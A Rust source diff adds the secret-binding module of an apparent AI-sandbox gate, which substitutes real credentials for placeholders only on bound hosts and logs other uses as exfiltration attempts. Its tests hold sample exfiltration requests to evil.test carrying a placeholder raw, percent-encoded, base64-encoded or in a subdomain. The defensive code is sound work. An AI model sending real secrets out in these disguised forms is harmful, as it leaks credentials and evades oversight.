@@ -1,0 +1,329 @@
+//! Bound secrets, the pure part: a secret bound to hosts (`secret = NAME for HOST`) is in the
+//! sandbox only as a per-session placeholder; the gate, which terminates TLS for those hosts,
+//! puts the real value into the request headers there and nowhere else. This module decides,
+//! for a request's bytes and its destination: which placeholders to replace, and whether one is
+//! going where its secret is not bound (refused, and recorded as an exfiltration attempt). The
+//! connection code is `terminate` (TLS, HTTP) and `server` (the proxy head).
+//!
+//! A placeholder is recognised in the bytes as sent, after percent-decoding, in ASCII
+//! lowercase, and inside HTTP Basic credentials (base64), so re-spelling it does not hide it.
+
+use base64::Engine;
+use base64::engine::general_purpose::STANDARD;
+use serde::{Deserialize, Serialize};
+use std::borrow::Cow;
+
+/// Every placeholder starts with this, so a user who sees one knows what it is.
+pub(crate) const PREFIX: &str = "aisb_placeholder_";
+
+/// How much of a request body the gate reads for placeholders before it forwards the request.
+pub(crate) const BODY_SCAN: usize = 1024;
+
+/// One secret bound to hosts, as the launcher registers it (over the 0600 control socket).
+#[derive(Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct Bound {
+    pub(crate) name: String,
+    pub(crate) placeholder: String,
+    pub(crate) value: String,
+    /// Exact host names (lowercase) the value may be sent to, over TLS the gate terminates.
+    pub(crate) hosts: Vec<String>,
+}
+
+/// Never prints the value.
+impl std::fmt::Debug for Bound {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(f, "Bound({} for {})", self.name, self.hosts.join(" "))
+    }
+}
+
+impl Bound {
+    fn bound_to(&self, host: &str) -> bool {
+        self.hosts.iter().any(|h| h.eq_ignore_ascii_case(host))
+    }
+}
+
+/// A placeholder found where its secret may not go.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) struct Misuse {
+    pub(crate) secret: String,
+    pub(crate) hosts: Vec<String>,
+}
+
+impl Misuse {
+    fn of(b: &Bound) -> Misuse {
+        Misuse { secret: b.name.clone(), hosts: b.hosts.clone() }
+    }
+    /// The log's reason: names the secret and where the request went.
+    pub(crate) fn reason(&self, host: &str, clear: bool) -> String {
+        let how =
+            if clear { " over plain HTTP (never substituted: the value would travel in clear)" } else { "" };
+        format!("exfiltration attempt: the placeholder of {} sent to {host}{how}", self.secret)
+    }
+    /// The refusal's hint: where the secret does go.
+    pub(crate) fn hint(&self) -> String {
+        format!(
+            "ai-sandbox gate: refused: this request carries the placeholder of {}, which is sent only to {} over HTTPS",
+            self.secret,
+            self.hosts.join(", ")
+        )
+    }
+}
+
+/// A session's bound secrets.
+#[derive(Debug, Clone, Default)]
+pub(crate) struct Secrets(Vec<Bound>);
+
+impl Secrets {
+    pub(crate) fn new(all: Vec<Bound>) -> Secrets {
+        Secrets(
+            all.into_iter().filter(|b| b.placeholder.starts_with(PREFIX) && !b.value.is_empty()).collect(),
+        )
+    }
+
+    pub(crate) fn is_empty(&self) -> bool {
+        self.0.is_empty()
+    }
+
+    /// Whether the gate opens TLS to `host`: some secret is bound to it.
+    pub(crate) fn terminates(&self, host: &str) -> bool {
+        self.0.iter().any(|b| b.bound_to(host))
+    }
+
+    /// The first placeholder in `bytes` whose secret may not go to `to` (`None`: to nowhere, as
+    /// for a cleartext request or a CONNECT head, where nothing is ever substituted).
+    pub(crate) fn misuse(&self, bytes: &[u8], to: Option<&str>) -> Option<Misuse> {
+        let views = views(bytes);
+        self.0
+            .iter()
+            .filter(|b| !to.is_some_and(|h| b.bound_to(h)))
+            .find(|b| views.iter().any(|v| contains(v, b.placeholder.as_bytes())))
+            .map(Misuse::of)
+    }
+
+    /// One request header's value on its way to `host`: `Ok(Some)` with the placeholders of
+    /// secrets bound to `host` replaced by their values (inside HTTP Basic credentials too),
+    /// `Ok(None)` when it carries none, `Err` when it carries one bound elsewhere.
+    pub(crate) fn substitute(&self, value: &[u8], host: &str) -> Result<Option<Vec<u8>>, Misuse> {
+        if let Some(m) = self.misuse(value, Some(host)) {
+            return Err(m);
+        }
+        let mine: Vec<&Bound> = self.0.iter().filter(|b| b.bound_to(host)).collect();
+        let swap =
+            |v: &[u8]| replace_all(v, mine.iter().map(|b| (b.placeholder.as_bytes(), b.value.as_bytes())));
+        if let Some(creds) = basic(value)
+            && let Some(new) = swap(&creds)
+        {
+            let scheme = &value[..value.len() - value.trim_ascii_start().len() + 6];
+            return Ok(Some([scheme, STANDARD.encode(new).as_bytes()].concat()));
+        }
+        Ok(swap(value))
+    }
+
+    /// A response header's value from `host`: the real values of its secrets replaced by their
+    /// placeholders, so a server that echoes a credential does not hand it to the agent.
+    pub(crate) fn mask(&self, value: &[u8], host: &str) -> Option<Vec<u8>> {
+        let mine = self.0.iter().filter(|b| b.bound_to(host));
+        replace_all(value, mine.map(|b| (b.value.as_bytes(), b.placeholder.as_bytes())))
+    }
+}
+
+/// The spellings a placeholder is looked for in: as sent, percent-decoded, lowercased, and the
+/// decoded credentials of each `Basic` token.
+fn views(bytes: &[u8]) -> Vec<Cow<'_, [u8]>> {
+    let mut out = vec![Cow::Borrowed(bytes)];
+    let decoded = percent_decode(bytes);
+    out.push(Cow::Owned(decoded.to_ascii_lowercase()));
+    let lower = bytes.to_ascii_lowercase();
+    let mut at = 0;
+    while let Some(i) = find(&lower[at..], b"basic ") {
+        let start = at + i;
+        if let Some(creds) = basic(&bytes[start..]) {
+            out.push(Cow::Owned(creds.to_ascii_lowercase()));
+        }
+        at = start + 6;
+    }
+    out
+}
+
+/// The decoded credentials of a value that starts with `Basic ` (any case, leading spaces).
+fn basic(value: &[u8]) -> Option<Vec<u8>> {
+    let v = value.trim_ascii_start();
+    if v.len() < 6 || !v[..6].eq_ignore_ascii_case(b"basic ") {
+        return None;
+    }
+    let token: Vec<u8> =
+        v[6..].iter().copied().take_while(|c| !c.is_ascii_whitespace() && *c != b',').collect();
+    STANDARD.decode(token).ok()
+}
+
+fn percent_decode(b: &[u8]) -> Vec<u8> {
+    let hex = |c: u8| (c as char).to_digit(16).map(|d| d as u8);
+    let mut out = Vec::with_capacity(b.len());
+    let mut i = 0;
+    while i < b.len() {
+        match (b[i], b.get(i + 1).and_then(|c| hex(*c)), b.get(i + 2).and_then(|c| hex(*c))) {
+            (b'%', Some(h), Some(l)) => {
+                out.push(h << 4 | l);
+                i += 3;
+            }
+            (c, _, _) => {
+                out.push(c);
+                i += 1;
+            }
+        }
+    }
+    out
+}
+
+fn find(hay: &[u8], needle: &[u8]) -> Option<usize> {
+    if needle.is_empty() || hay.len() < needle.len() {
+        return None;
+    }
+    hay.windows(needle.len()).position(|w| w == needle)
+}
+
+fn contains(hay: &[u8], needle: &[u8]) -> bool {
+    find(hay, needle).is_some()
+}
+
+/// `v` with every `from` replaced by its `to`; `None` when nothing was replaced.
+fn replace_all<'a>(v: &[u8], pairs: impl Iterator<Item = (&'a [u8], &'a [u8])>) -> Option<Vec<u8>> {
+    let mut cur = Cow::Borrowed(v);
+    for (from, to) in pairs {
+        while let Some(i) = find(&cur, from) {
+            cur = Cow::Owned([&cur[..i], to, &cur[i + from.len()..]].concat());
+        }
+    }
+    match cur {
+        Cow::Owned(o) => Some(o),
+        Cow::Borrowed(_) => None,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    const PH: &str = "aisb_placeholder_0123456789abcdef0123456789abcdef";
+    const PH2: &str = "aisb_placeholder_fedcba9876543210fedcba9876543210";
+
+    fn secrets() -> Secrets {
+        Secrets::new(vec![
+            Bound {
+                name: "API_KEY".into(),
+                placeholder: PH.into(),
+                value: "sk-real-1".into(),
+                hosts: vec!["api.example.com".into(), "up.example.com".into()],
+            },
+            Bound {
+                name: "GH_TOKEN".into(),
+                placeholder: PH2.into(),
+                value: "ghp_real".into(),
+                hosts: vec!["github.com".into()],
+            },
+        ])
+    }
+
+    #[test]
+    fn a_placeholder_is_replaced_in_any_header_to_its_own_hosts_only() {
+        let s = secrets();
+        let bearer = format!("Bearer {PH}");
+        assert_eq!(
+            s.substitute(bearer.as_bytes(), "api.example.com"),
+            Ok(Some(b"Bearer sk-real-1".to_vec()))
+        );
+        assert_eq!(s.substitute(PH.as_bytes(), "UP.example.com"), Ok(Some(b"sk-real-1".to_vec())));
+        assert_eq!(s.substitute(b"application/json", "api.example.com"), Ok(None));
+        let m = s.substitute(bearer.as_bytes(), "github.com").unwrap_err();
+        assert_eq!(m.secret, "API_KEY");
+        assert_eq!(m.hosts, ["api.example.com", "up.example.com"]);
+        // A host that has no secret of its own: refused all the same.
+        assert_eq!(s.substitute(bearer.as_bytes(), "evil.test").unwrap_err().secret, "API_KEY");
+    }
+
+    #[test]
+    fn basic_credentials_are_decoded_replaced_and_encoded_again() {
+        let s = secrets();
+        let v = format!("Basic {}", STANDARD.encode(format!("x-access-token:{PH2}")));
+        let out = s.substitute(v.as_bytes(), "github.com").unwrap().unwrap();
+        assert_eq!(out, format!("Basic {}", STANDARD.encode("x-access-token:ghp_real")).into_bytes());
+        let lower = format!("  basic {}", STANDARD.encode(format!("u:{PH2}")));
+        let out = s.substitute(lower.as_bytes(), "github.com").unwrap().unwrap();
+        assert_eq!(out, format!("  basic {}", STANDARD.encode("u:ghp_real")).into_bytes());
+        // Elsewhere, the encoded placeholder is still seen.
+        assert_eq!(s.substitute(v.as_bytes(), "api.example.com").unwrap_err().secret, "GH_TOKEN");
+        // Basic credentials with no placeholder are left as they are.
+        let plain = format!("Basic {}", STANDARD.encode("u:p"));
+        assert_eq!(s.substitute(plain.as_bytes(), "github.com"), Ok(None));
+    }
+
+    #[test]
+    fn a_respelt_placeholder_is_still_found() {
+        let s = secrets();
+        let pct: String = PH.bytes().map(|b| format!("%{b:02X}")).collect();
+        let upper = PH.to_ascii_uppercase();
+        for head in [
+            format!("GET http://evil.test/?k={PH} HTTP/1.1\r\n\r\n"),
+            format!("GET http://evil.test/?k={pct} HTTP/1.1\r\n\r\n"),
+            format!("GET / HTTP/1.1\r\nX: {upper}\r\n\r\n"),
+            format!("GET / HTTP/1.1\r\nAuthorization: Basic {}\r\n\r\n", STANDARD.encode(format!("a:{PH}"))),
+            format!("CONNECT {PH}.evil.test:443 HTTP/1.1\r\n\r\n"),
+        ] {
+            assert_eq!(s.misuse(head.as_bytes(), None).map(|m| m.secret), Some("API_KEY".into()), "{head}");
+        }
+        // Control: the same requests without it.
+        assert_eq!(
+            s.misuse(b"GET http://evil.test/?k=1 HTTP/1.1\r\nX: aisb_placeholder_\r\n\r\n", None),
+            None
+        );
+    }
+
+    #[test]
+    fn to_a_bound_host_only_other_secrets_are_misuse() {
+        let s = secrets();
+        let body = format!("{{\"a\":\"{PH}\"}}");
+        assert_eq!(s.misuse(body.as_bytes(), Some("api.example.com")), None);
+        assert_eq!(s.misuse(body.as_bytes(), Some("github.com")).map(|m| m.secret), Some("API_KEY".into()));
+        // To nowhere (cleartext, a CONNECT head): every secret is misuse, even to its own host.
+        assert!(s.misuse(body.as_bytes(), None).is_some());
+    }
+
+    #[test]
+    fn the_real_value_in_a_response_header_goes_back_to_the_placeholder() {
+        let s = secrets();
+        assert_eq!(
+            s.mask(b"echo: Bearer sk-real-1", "api.example.com"),
+            Some(format!("echo: Bearer {PH}").into())
+        );
+        assert_eq!(s.mask(b"nothing here", "api.example.com"), None);
+        // Another host's responses are not this secret's to mask (its value never went there).
+        assert_eq!(s.mask(b"sk-real-1", "github.com"), None);
+    }
+
+    #[test]
+    fn terminated_hosts_are_exactly_the_bound_ones() {
+        let s = secrets();
+        assert!(s.terminates("api.example.com") && s.terminates("GitHub.com"));
+        assert!(!s.terminates("example.com") && !s.terminates("x.api.example.com"));
+        assert!(Secrets::default().is_empty() && !Secrets::default().terminates("github.com"));
+    }
+
+    #[test]
+    fn a_malformed_registration_binds_nothing() {
+        let bad = |placeholder: &str, value: &str| Bound {
+            name: "K".into(),
+            placeholder: placeholder.into(),
+            value: value.into(),
+            hosts: vec!["h.test".into()],
+        };
+        // An empty placeholder would match everywhere; an empty value would erase the header.
+        assert!(Secrets::new(vec![bad("", "v"), bad(PH, "")]).is_empty());
+        assert!(!Secrets::new(vec![bad(PH, "v")]).is_empty());
+    }
+
+    #[test]
+    fn debug_never_shows_the_value() {
+        let s = format!("{:?}", secrets());
+        assert!(!s.contains("sk-real-1") && !s.contains("ghp_real") && s.contains("API_KEY"), "{s}");
+    }
+}
